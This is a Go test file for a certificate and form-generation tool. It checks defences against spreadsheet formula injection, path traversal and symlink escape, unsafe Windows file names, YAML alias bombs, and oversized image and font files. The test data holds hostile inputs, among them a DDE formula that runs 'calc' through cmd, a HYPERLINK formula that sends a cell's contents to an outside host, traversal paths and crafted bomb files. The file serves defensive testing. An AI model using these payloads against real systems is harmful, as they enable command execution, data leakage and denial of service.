package main

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"encoding/xml"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/zhifadoc/zhifadoc/certificate"
	"github.com/zhifadoc/zhifadoc/forms"
	"github.com/zhifadoc/zhifadoc/notice"
)

// formulas are what a spreadsheet program computes, or runs, if a cell's text
// is taken for more than text.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", `=HYPERLINK("http://a.example/?"&A1,"王某")`, "=cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "_x003D_1+1", "'=1+1", `"=1+1`, "<f>1+1</f>", "]]><f>1+1</f>",
}

// filled sets every string of a struct to s.
func filled[T any](v T, s string) T {
	r := reflect.ValueOf(&v).Elem()
	for i := range r.NumField() {
		if f := r.Field(i); f.Kind() == reflect.String && f.CanSet() {
			f.SetString(s)
		}
	}
	return v
}

// computed are all formulas of a workbook, wherever they are: of cells, names,
// rules for input and conditional formats; and its links.
func computed(t *testing.T, book []byte) []string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, part := range z.File {
		f, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		d := xml.NewDecoder(f)
		var in string
		for {
			tok, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			switch v := tok.(type) {
			case xml.StartElement:
				switch in = ""; v.Name.Local {
				case "f", "formula", "formula1", "formula2", "definedName":
					in = v.Name.Local
					all = append(all, part.Name+" "+in+" ")
				case "hyperlink", "externalReference", "ddeLink", "oleLink":
					all = append(all, part.Name+" "+v.Name.Local)
				case "Relationship":
					for _, a := range v.Attr {
						if a.Name.Local == "TargetMode" {
							all = append(all, part.Name+" leads outside")
						}
					}
				}
			case xml.CharData:
				if in != "" {
					all[len(all)-1] += string(v)
				}
			case xml.EndElement:
				in = ""
			}
		}
		f.Close()
	}
	return all
}

// rowless takes the numbers out of formulas: there are more rows of some.
var rowless = regexp.MustCompile(`[0-9]+`)

// TestNoFormulaFromInput puts formulas where input goes, into every workbook
// that is written: none has more formulas, names, rules or links than with
// harmless input.
func TestNoFormulaFromInput(t *testing.T) {
	books := map[string]func(w io.Writer, s string) error{
		"forms.Workbook": func(w io.Writer, s string) error {
			f := filled(forms.Form{Kind: forms.Clearance}, s)
			f.Officers = []forms.Officer{filled(forms.Officer{}, s)}
			return (&forms.Workbook{}).Write(w, &f)
		},
		"forms.Workbook, its lists": func(w io.Writer, s string) error {
			list := []string{s, "甲"}
			return (&forms.Workbook{Types: list, Categories: list, Areas: list, Reasons: list}).Write(w, &forms.Form{Kind: forms.Renewal})
		},
		"forms.WriteReview": func(w io.Writer, s string) error {
			cell := `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
			text := "序号,工作单位,姓名,身份证号,执法类型,执法类别,执法区域,执法证编号,资格编号,清理原因\n1" + strings.Repeat(","+cell, 9) + "\n"
			rd, err := forms.Read(s+".csv", strings.NewReader(text))
			if err != nil {
				return err
			}
			c := &forms.Collection{Departments: []string{s}, Readings: []*forms.Reading{rd}, Findings: rd.Findings,
				Refused: []*forms.FileError{{File: s + ".xls", Err: errors.New(s)}}}
			c.Findings = append(c.Findings, forms.Review(c.Forms())...)
			return forms.WriteReview(w, c, time.Time{})
		},
		"certificate.WriteRegister": func(w io.Writer, s string) error {
			card := filled(certificate.Card{Kind: certificate.Enforcement}, s)
			refusal := certificate.Refusal{Name: s, Department: s, Admission: s, Number: s, Detail: s}
			return certificate.WriteRegister(w, &certificate.Register{Organ: s, Issuance: &certificate.Issuance{
				Cards: []*certificate.Card{&card}, Refusals: []certificate.Refusal{refusal}}})
		},
	}
	for name, write := range books {
		t.Run(name, func(t *testing.T) {
			var harmless bytes.Buffer
			if err := write(&harmless, "1甲"); err != nil {
				t.Fatal(err)
			}
			var want []string
			for _, f := range computed(t, harmless.Bytes()) {
				want = append(want, rowless.ReplaceAllString(f, "#"))
			}
			wrote := 0
			for _, s := range formulas {
				var b bytes.Buffer
				if err := write(&b, s); err != nil {
					if field := (*forms.FieldError)(nil); !errors.As(err, &field) {
						t.Errorf("%q: %v", s, err)
					}
					continue // refused: a cell or a list cannot hold it
				}
				wrote++
				var got []string
				for _, f := range computed(t, b.Bytes()) {
					got = append(got, rowless.ReplaceAllString(f, "#"))
				}
				if !slices.Equal(got, want) {
					t.Errorf("%q: formulas %q, want %q", s, got, want)
				}
			}
			if wrote < len(formulas)-3 {
				t.Errorf("only %d of %d workbooks were written", wrote, len(formulas))
			}
		})
	}
}

// TestJobStaysInItsFolder writes names into job.yaml, and symbolic links into
// the job, that lead out of its folder: docset refuses, and nothing of what
// lies outside comes out.
func TestJobStaysInItsFolder(t *testing.T) {
	const secret = "不可告人之事"
	type change struct{ from, to string }
	for name, c := range map[string]struct {
		change change
		link   string // becomes a link to what lies outside
		says   string
		passes bool // the rest is done, and it is told
	}{
		"text above":         {change: change{"text: notice.txt", "text: ../outside.txt"}, says: "../outside.txt"},
		"text absolute":      {change: change{"text: notice.txt", "text: OUTSIDE"}, says: "outside.txt"},
		"text around":        {change: change{"text: notice.txt", "text: photos/../../outside.txt"}, says: "outside.txt"},
		"text linked":        {link: "notice.txt", says: "notice.txt"},
		"received linked":    {link: "notice-received.txt", says: "notice-received.txt"},
		"received above":     {change: change{"received: notice-received.txt", "received: ../outside.txt"}, says: "outside.txt"},
		"seal above":         {change: change{"specimen: true", "picture: ../outside.txt"}, says: "outside.txt"},
		"submissions above":  {change: change{"submissions: submissions", "submissions: .."}, says: "job.yaml"},
		"submissions linked": {link: "submissions", says: "submissions"},
		"photos above":       {change: change{"photos: photos", "photos: ../photos"}, says: "../photos"},
		"photos linked":      {link: "photos", says: "photos"},
		"photo linked":       {link: "photos/20220001.jpg", says: "照片", passes: true},
		"submission linked":  {link: "submissions/水务局.xlsx", says: "没有读：submissions/水务局.xlsx", passes: true},
		"results above":      {change: change{"exam.csv", "../outside.txt"}, says: "outside.txt"},
		"results linked":     {link: "exam.csv", says: "exam.csv"},
		"a Windows path":     {change: change{"text: notice.txt", `text: 'C:\outside.txt'`}, says: "outside.txt"},
		"a file that is not": {change: change{"text: notice.txt", "text: ''"}, says: "job.yaml"},
	} {
		t.Run(name, func(t *testing.T) {
			if c.link != "" && runtime.GOOS == "windows" {
				t.Skip("links need a privilege")
			}
			job, dir := ownJob(t), t.TempDir()
			outside := filepath.Join(filepath.Dir(job), "outside.txt")
			if err := os.WriteFile(outside, []byte("关于"+secret+"的通知\n\n"+secret+"。\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if c.change.from != "" {
				file := filepath.Join(job, "job.yaml")
				data, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				to := strings.ReplaceAll(c.change.to, "OUTSIDE", filepath.ToSlash(outside))
				changed := strings.Replace(string(data), c.change.from, to, 1)
				if changed == string(data) {
					t.Fatalf("job.yaml has no %q", c.change.from)
				}
				if err := os.WriteFile(file, []byte(changed), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			if c.link != "" {
				from := filepath.Join(job, filepath.FromSlash(c.link))
				// What it was is outside now, and would be of use if it were read.
				aside := filepath.Join(filepath.Dir(job), "aside-"+path.Base(c.link))
				if err := os.Rename(from, aside); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(aside, from); err != nil {
					t.Fatal(err)
				}
			}
			args := []string{"-job", job, "-out", dir, "-key", keyFile(t)}
			if strings.HasPrefix(name, "received") {
				args = append([]string{"proof"}, args...)
			}
			code, stdout, stderr := docset(t, args...)
			said := stdout + stderr
			if want := map[bool]int{true: exitDone, false: exitPerson}[c.passes]; code != want || !strings.Contains(said, c.says) {
				t.Errorf("exit status %d, want %d with %q\n%s", code, want, c.says, stderr)
			}
			if strings.Contains(said, secret) {
				t.Error("it tells what lies outside")
			}
			for name, data := range files(t, dir) {
				if strings.Contains(data, secret) {
					t.Errorf("%s has what lies outside", name)
				}
			}
			for _, d := range []string{filepath.Dir(job), filepath.Dir(dir)} {
				if _, err := os.Stat(filepath.Join(d, "outside.fixed.txt")); err == nil {
					t.Error("it wrote outside")
				}
			}
		})
	}
}

// TestPhotoNames tries names of photos that lead elsewhere, with a folder of
// the system's, which knows no bounds of its own.
func TestPhotoNames(t *testing.T) {
	dir := t.TempDir()
	photos := filepath.Join(dir, "photos")
	if err := os.Mkdir(photos, 0o700); err != nil {
		t.Fatal(err)
	}
	data := readRepository(t, "testdata/naiman/photos/20220001.jpg")
	if err := os.WriteFile(filepath.Join(dir, "x.jpg"), []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
	p := &certificate.Printer{Photos: os.DirFS(photos)}
	for _, name := range []string{"../x.jpg", "./../x.jpg", filepath.Join(dir, "x.jpg"), "/x.jpg", `..\x.jpg`, "", ".", "..", "photos/../x.jpg", "x.jpg\x00"} {
		card := &certificate.Card{Number: "1", Name: "甲", Department: "乙", Kind: certificate.Enforcement, PhotoFile: name,
			Issued: forms.Date{Year: 2022, Month: 9, Day: 1}, Expires: forms.Date{Year: 2028, Month: 8, Day: 31}}
		run, err := p.Cards(context.Background(), io.Discard, certificate.All([]*certificate.Card{card}))
		if err == nil || run == nil || len(run.Printed) > 0 {
			t.Errorf("%q: printed, %v", name, err)
		}
	}
	// An admission number is the name of a photo, too.
	results := "准考证号,姓名,身份证号,成绩,交卷时间,结果\n../x,甲,11010519491231002X,90,2022-08-01 10:00:00,合格\n"
	read, findings, err := certificate.ReadResults("exam.csv", strings.NewReader(results))
	if err == nil && len(findings) == 0 && len(read) > 0 {
		t.Errorf("%+v", read)
	}
}

// Of a file name on Windows: what may not be in it, and what it may not be,
// whatever its extension.
var (
	notInNames = regexp.MustCompile(`[<>:"/\\|?*\x00-\x1F\x7F]|[ .]$`)
	devices    = regexp.MustCompile(`(?i)^(CON|PRN|AUX|NUL|CONIN\$|CONOUT\$|COM[0-9¹²³]|LPT[0-9¹²³])(\.|$)`)
)

// TestNamesForWindows checks the name of each file and folder that docset
// writes: Windows can have it, in a folder that knows no case, and it has no
// name or number of a person in it.
func TestNamesForWindows(t *testing.T) {
	for _, bad := range []string{"NUL", "con.pdf", "a:b", "a.", "a ", "COM1.xlsx", "a|b"} {
		if !notInNames.MatchString(bad) && !devices.MatchString(bad) {
			t.Fatalf("%q passes for a name", bad)
		}
	}
	dir, key := t.TempDir(), keyFile(t)
	for _, args := range [][]string{{}, {"issue", "-only", "1505252200003"}, {"calibrate"}, {"ledger", "lists"}} {
		if code, _, stderr := docset(t, append(slices.Clone(args), "-out", dir, "-key", key)...); code == exitUsage {
			t.Fatalf("%q: %s", args, stderr)
		}
	}
	seen := map[string]string{}
	n := 0
	err := fs.WalkDir(os.DirFS(dir), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || name == "." {
			return err
		}
		n++
		base := path.Base(name)
		if notInNames.MatchString(base) || devices.MatchString(base) || len(name) > 100 {
			t.Errorf("Windows has no file %q", name)
		}
		if other, twice := seen[strings.ToLower(name)]; twice {
			t.Errorf("%q and %q are one on Windows", name, other)
		}
		seen[strings.ToLower(name)] = name
		if regexp.MustCompile(`[0-9]{13}|\p{Han}`).MatchString(base) {
			t.Errorf("%q may tell of a person", name)
		}
		return nil
	})
	if err != nil || n < 20 {
		t.Errorf("%d names, %v", n, err)
	}
}

// TestYAMLBombs has job.yaml grow in memory, or take its parser's time.
func TestYAMLBombs(t *testing.T) {
	aliases := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'i'; c++ {
		aliases += fmt.Sprintf("%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c,", c-1), 9), ","))
	}
	for name, text := range map[string]string{
		"aliases":  aliases + "forms: {departments: *i}\n",
		"merged":   "a: &a {job: x}\nnotice:\n  <<: *a\n",
		"brackets": strings.Repeat("[", 200_000),
		"braces":   strings.Repeat("{a: ", 10_000),
		"large":    "job: " + strings.Repeat("x", 1<<20),
	} {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "job.yaml"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		began := time.Now()
		code, _, stderr := docset(t, "collect", "-job", dir, "-out", dir)
		if code != exitPerson || !strings.Contains(stderr, "不像设定文件") {
			t.Errorf("%s: exit status %d, %s", name, code, stderr)
		}
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%s: %v", name, took)
		}
	}
	// What is in use passes, & and * in its texts, too.
	for _, text := range []string{readRepository(t, "testdata/naiman/job.yaml"), "job: 甲 & 乙 * 丙\norgan: '&a'\n"} {
		if !settings([]byte(text)) {
			t.Errorf("%.40q is refused", text)
		}
	}
}

// bigPNG is a PNG that says it is so large, and has next to nothing in it.
func bigPNG(t *testing.T, width, height uint32) []byte {
	t.Helper()
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		binary.Write(&b, binary.BigEndian, uint32(len(data)))
		body := append([]byte(kind), data...)
		b.Write(body)
		binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(body))
	}
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
	chunk("IHDR", append(head, 16, 6, 0, 0, 0)) // 16 bits of red, green, blue and opacity
	var packed bytes.Buffer
	z := zlib.NewWriter(&packed)
	z.Write(make([]byte, 1<<16))
	z.Close()
	chunk("IDAT", packed.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

// bigJPEG is a progressive JPEG, which takes the most memory, with nothing in it.
func bigJPEG(width, height uint16) []byte {
	b := []byte{0xFF, 0xD8, 0xFF, 0xC2, 0, 17, 8, byte(height >> 8), byte(height), byte(width >> 8), byte(width), 3,
		1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0}
	b = append(b, 0xFF, 0xDA, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 0, 0)
	return append(b, 0, 0, 0, 0, 0xFF, 0xD9)
}

// absurdFont is a collection whose faces all lie in one place, and whose tables
// say they are as large as a table can.
func absurdFont(faces, tables int) []byte {
	b := []byte("ttcf\x00\x01\x00\x00")
	b = binary.BigEndian.AppendUint32(b, uint32(faces))
	at := uint32(12 + 4*faces)
	for range faces {
		b = binary.BigEndian.AppendUint32(b, at)
	}
	b = append(b, 0, 1, 0, 0, byte(tables>>8), byte(tables), 0, 0, 0, 0, 0, 0)
	names := []string{"name", "cmap", "head", "hhea", "hmtx", "maxp", "loca", "glyf", "OS/2", "post"}
	for i := range tables {
		b = append(b, names[i%len(names)]...)
		b = append(b, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF)
	}
	return b
}

// TestBombs has small files claim to be large. They are refused, by what they
// say of themselves and not by trying.
func TestBombs(t *testing.T) {
	card := certificate.Card{Number: "1", Name: "甲", Department: "乙", Kind: certificate.Enforcement,
		Issued: forms.Date{Year: 2022, Month: 9, Day: 1}, Expires: forms.Date{Year: 2028, Month: 8, Day: 31}}
	photo := func(data []byte) func() error {
		return func() error {
			c := card
			c.Photo = data
			_, err := (&certificate.Printer{}).Cards(context.Background(), io.Discard, certificate.All([]*certificate.Card{&c}))
			return err
		}
	}
	seal := func(data []byte) func() error {
		return func() error {
			return (&forms.Renderer{Seal: forms.Seal{Picture: data}}).Render(io.Discard, &forms.Form{Kind: forms.Renewal})
		}
	}
	emblem := func(data []byte) func() error {
		return func() error {
			c := card
			_, err := (&certificate.Printer{Emblem: data}).Cards(context.Background(), io.Discard, certificate.All([]*certificate.Card{&c}))
			return err
		}
	}
	figure := func(data []byte) func() error {
		return func() error {
			n := &notice.Notice{NoFile: true, Title: "关于图的通知", Issuers: []string{"甲局"},
				Body: []notice.Block{{Kind: notice.Figure, Picture: &notice.Picture{Data: data}}}}
			return new(notice.Renderer).Render(io.Discard, n)
		}
	}
	fonts := func(data []byte) func() error {
		return func() error {
			r := &forms.Renderer{Fonts: fstest.MapFS{"a.ttc": {Data: data}}}
			return r.Render(io.Discard, &forms.Form{Kind: forms.Renewal})
		}
	}
	const megabyte = 1 << 20
	for _, c := range []struct {
		name      string
		use       func() error
		megabytes uint64 // all that may be allocated, besides what printing takes
	}{
		{"photo, PNG", photo(bigPNG(t, 26000, 32000)), 1},
		{"photo, PNG of the largest size", photo(bigPNG(t, 3190, 3926)), 210},
		{"photo, JPEG", photo(bigJPEG(52000, 64000)), 1},
		{"seal", seal(bigPNG(t, 60000, 60000)), 1},
		{"seal, the sides multiply to little", seal(bigPNG(t, 1<<31-1, 2)), 1},
		{"emblem", emblem(bigPNG(t, 50000, 50000)), 1},
		{"figure, PNG", figure(bigPNG(t, 50000, 50000)), 1},
		{"figure, JPEG", figure(bigJPEG(65000, 65000)), 1},
		{"font of 4 billion faces", fonts(append([]byte("ttcf\x00\x01\x00\x00\xff\xff\xff\xff"), make([]byte, 64)...)), 4},
		{"font of 256 faces of 256 tables", fonts(absurdFont(256, 256)), 16},
		{"font of 65,535 tables", fonts(absurdFont(1, 0xFFFF)), 4},
	} {
		t.Run(c.name, func(t *testing.T) {
			// What printing takes by itself is paid for by then.
			r := &forms.Renderer{}
			if err := r.Render(io.Discard, &forms.Form{Kind: forms.Renewal}); err != nil {
				t.Fatal(err)
			}
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			err := c.use()
			runtime.ReadMemStats(&after)
			if err == nil {
				t.Error("it was taken")
			}
			const printing = 40
			if took := (after.TotalAlloc - before.TotalAlloc) / megabyte; took > c.megabytes+printing {
				t.Errorf("%d MB for a file that does not deserve it, at most %d", took, c.megabytes+printing)
			} else {
				t.Logf("%d MB; %.100v", took, err)
			}
		})
	}
}
